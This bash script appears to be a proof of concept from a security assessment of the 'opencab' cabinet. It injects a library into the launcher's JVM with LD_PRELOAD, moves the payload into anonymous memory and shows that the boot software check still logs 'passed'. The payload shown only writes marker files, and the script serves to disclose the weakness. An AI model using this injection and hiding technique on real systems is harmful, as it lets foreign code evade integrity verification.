#!/bin/bash
# LD_PRELOAD given to the launcher reaches the cabinet's JVM, and a payload that moves itself into anonymous
# memory leaves the boot check "passed" (docs/security-attack-2026-11-28.md, A6).
# Usage: IMG=/path/to/opencab CFG=/path/to/cabinet.properties ./ld-preload-hidden.sh [run args...]
set -eu
here=$(cd "$(dirname "$0")" && pwd); w=$(mktemp -d)
gcc -shared -fPIC -O2 -o "$w/hook.so" "$here/hook.c" -ldl
gcc -shared -fPIC -O2 -fno-stack-protector -o "$w/hide.so" "$here/hide.c" -lpthread
rm -f /tmp/hidden-*
# hook.so is loaded into the launcher's shell (sh); its execve() gives the JVM LD_PRELOAD=hide.so and drops
# OPENCAB_REFUSED_*; hide.so removes LD_PRELOAD from the JVM's environment and, after 1 s, replaces its own file
# mappings by anonymous memory with the same bytes, then writes /tmp/hidden-<pid> every 2 s.
LD_PRELOAD="$w/hook.so" ATK_PAYLOAD="$w/hide.so" "$IMG/bin/cabinet" run --config "$CFG" "$@" &
pid=$!; sleep 20
echo "foreign code alive in the cabinet's JVM: $(cat /tmp/hidden-* 2>/dev/null | wc -l) marks"
echo "mappings of the payload's file in the JVM: $(grep -c "$w" /proc/$pid/maps || true)"   # the launcher execs java: same pid
kill $pid; wait $pid || true
echo "now: provision export ... and look for 'SOFTWARE_VERIFICATION,passed' in events.csv"
